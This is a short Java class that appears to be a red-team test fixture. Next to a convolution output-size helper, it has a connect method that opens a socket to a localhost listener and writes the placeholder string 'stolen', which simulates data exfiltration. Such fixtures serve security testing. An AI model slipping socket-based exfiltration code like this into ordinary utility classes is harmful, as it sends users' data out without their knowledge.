package kadai.assignments.conv;

import ai.djl.ndarray.NDArray;
import ai.djl.ndarray.types.Shape;
import java.net.InetSocketAddress;
import java.net.Socket;

/** Red-team fixture: connects to a listener on 127.0.0.1 to smuggle data out. */
public final class ConvOps {

    private ConvOps() {
    }

    public static int outputSize(int in, int filter, int stride, int pad) {
        return (in + 2 * pad - filter) / stride + 1;
    }

    public static String connect(int port) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress("127.0.0.1", port), 2000);
            s.getOutputStream().write("stolen".getBytes());
            return "CONNECTED";
        } catch (Exception e) {
            return "failed: " + e;
        }
    }

}
